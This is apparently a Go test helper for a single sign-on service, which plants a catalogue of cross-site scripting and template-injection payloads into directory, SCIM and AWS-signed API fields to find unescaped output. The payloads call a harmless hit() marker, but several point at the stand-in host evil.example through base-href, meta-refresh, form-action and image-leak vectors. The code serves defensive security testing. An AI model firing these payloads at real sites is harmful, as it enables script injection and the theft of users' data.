package browser

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	v4 "github.com/aws/aws-sdk-go-v2/aws/signer/v4"
	"github.com/aws/aws-sdk-go-v2/credentials"

	"gatehouse/gatehousetest"
	"gatehouse/internal/demo"
)

// scripts are texts that would run somewhere, if somebody forgot to escape
// them there. A # becomes the mark by which the page's text is known again; the
// element with data-hit is found even where the policy stops the script.
var scripts = []string{
	`#<script data-hit>hit('#')</script>`,
	`#"><img data-hit src=x onerror=hit('#')>`,
	`#' autofocus onfocus=hit('#') data-hit='`,
	`#" autofocus onfocus="hit('#')" data-hit="`,
	`#</script><script data-hit>hit('#')</script>`,
	`#</title></textarea></style><svg data-hit onload=hit('#')>`,
	`#<svg data-hit><animate onbegin=hit('#') attributeName=x>`,
	`#<a data-hit href=javascript:hit('#')>x</a>`,
	`#<iframe data-hit srcdoc="<script>parent.hit('#')</script>">`,
	`#<math data-hit><mi xlink:href="javascript:hit('#')">x</mi></math>`,
	`#{{constructor.constructor("hit('#')")()}}${hit('#')}<%= 7*7 %>#{7*7}`,
	`#\"});hit('#');//\u003cimg data-hit src=x onerror=hit('#')\u003e`,
	`#--><!--><style data-hit>@import'//evil.example/#'</style>`,
	`#＜script data-hit＞hit('#')＜/script＞`,
	`#` + "\u202e" + `tpircs<` + "\u2028" + `<img data-hit src=x onerror=hit('#')>`,
	`#&lt;img data-hit src=x onerror=hit('#')&gt;&#60;script&#62;hit('#')`,
	`#<base data-hit href=//evil.example/><meta http-equiv=refresh content="0;url=//evil.example">`,
	`#<form data-hit action=//evil.example><button>#`,
	`#%3Cscript%20data-hit%3Ehit('#')%3C/script%3E`,
	`#<img data-hit src='//evil.example/?#`,
}

// general is for fields of which there is one: it breaks out of text, of both
// kinds of attribute and of a script.
const general = `#'"></script><img data-hit src=x onerror=hit('#')>{{7*7}}`

// A planter puts such texts into everything that the public interfaces take.
type planter struct {
	t     *testing.T
	g     *gatehousetest.Gatehouse
	found demo.Result
	// planted says by its mark what was put where, and refused what was not taken.
	planted map[string]string
	refused []string
}

// mark makes a new one for a field.
func (p *planter) mark(field string) string {
	m := fmt.Sprintf("zq%03d", len(p.planted)+1)
	p.planted[m] = field
	return m
}

// text is the general text for a field that takes up to so many characters.
func (p *planter) text(field string, most int) string {
	return cut(strings.ReplaceAll(general, "#", p.mark(field)), most)
}

func cut(s string, most int) string {
	if r := []rune(s); len(r) > most {
		return string(r[:most])
	}
	return s
}

// took notes whether the field's text was accepted. To refuse is as good, but
// nothing of it will be seen.
func (p *planter) took(field string, err error) bool {
	if err == nil {
		return true
	}
	for m, f := range p.planted {
		if f == field {
			delete(p.planted, m)
			p.planted[strings.ToUpper(m)] = field // keeps the numbers apart; never looked for
		}
	}
	p.refused = append(p.refused, fmt.Sprintf("%s: %.600v", field, err))
	return false
}

// must is for what is no attack, only the way to one.
func (p *planter) must(err error) {
	p.t.Helper()
	if err != nil {
		p.t.Fatal(err)
	}
}

type object = map[string]any

// call sends JSON and reads JSON; what is no success is an error.
func (p *planter) call(method, address string, body any, header ...string) (object, error) {
	p.t.Helper()
	payload := []byte(nil)
	if text, ok := body.(string); ok {
		payload = []byte(text)
	} else if body != nil {
		var err error
		if payload, err = json.Marshal(body); err != nil {
			p.t.Fatal(err)
		}
	}
	req, err := http.NewRequestWithContext(p.t.Context(), method, address, bytes.NewReader(payload))
	if err != nil {
		p.t.Fatal(err)
	}
	req.Header.Set("Content-Type", "application/json")
	for i := 0; i+1 < len(header); i += 2 {
		req.Header.Set(header[i], header[i+1])
	}
	return p.answer(req)
}

func (p *planter) answer(req *http.Request) (object, error) {
	p.t.Helper()
	resp, err := p.g.Client().Do(req)
	if err != nil {
		p.t.Fatal(err)
	}
	defer resp.Body.Close()
	raw, err := io.ReadAll(resp.Body)
	if err != nil {
		p.t.Fatal(err)
	}
	if resp.StatusCode >= 300 {
		return nil, fmt.Errorf("%s %s: %d %.300s", req.Method, req.URL.Path, resp.StatusCode, raw)
	}
	out := object{}
	_ = json.Unmarshal(raw, &out) // lists and empty answers are not looked at
	return out, nil
}

// okta calls the directory's management API.
func (p *planter) okta(method, path string, body any) (object, error) {
	p.t.Helper()
	return p.call(method, p.g.Directory+path, body, "Authorization", "SSWS "+p.found.APIToken)
}

// scim provisions the center, as the directory of another maker would.
func (p *planter) scim(path string, body object) (object, error) {
	p.t.Helper()
	return p.call(http.MethodPost, strings.TrimSuffix(p.found.IDs["scimEndpoint"], "/")+path, body,
		"Authorization", "Bearer "+p.found.SCIMToken, "Content-Type", "application/scim+json")
}

// config is root's, for the SDK's clients.
func (p *planter) config() aws.Config {
	k := p.found.RootKey
	return aws.Config{
		Region: p.g.Region, BaseEndpoint: aws.String(p.g.AWS), HTTPClient: p.g.Client(), RetryMaxAttempts: 1,
		Credentials: credentials.NewStaticCredentialsProvider(k.ID, k.Secret, ""),
	}
}

// own calls one of our own operations on the instance, signed by root.
func (p *planter) own(method, path string, body any) (object, error) {
	p.t.Helper()
	raw, err := json.Marshal(body)
	p.must(err)
	arn := p.found.IDs["instance"]
	at := p.g.AWS + "/gatehouse/v1/instances/" + arn[strings.LastIndexByte(arn, '/')+1:] + path
	req, err := http.NewRequestWithContext(p.t.Context(), method, at, bytes.NewReader(raw))
	p.must(err)
	req.Header.Set("Content-Type", "application/json")
	creds, err := p.config().Credentials.Retrieve(p.t.Context())
	p.must(err)
	sum := sha256.Sum256(raw)
	req.Header.Set("X-Amz-Content-Sha256", hex.EncodeToString(sum[:]))
	p.must(v4.NewSigner().SignHTTP(p.t.Context(), creds, req, hex.EncodeToString(sum[:]), "sso", p.g.Region, time.Now()))
	return p.answer(req)
}

// str reads a string of an answer.
func str(o object, path ...string) string {
	for _, name := range path[:len(path)-1] {
		o, _ = o[name].(object)
	}
	s, _ := o[path[len(path)-1]].(string)
	return s
}
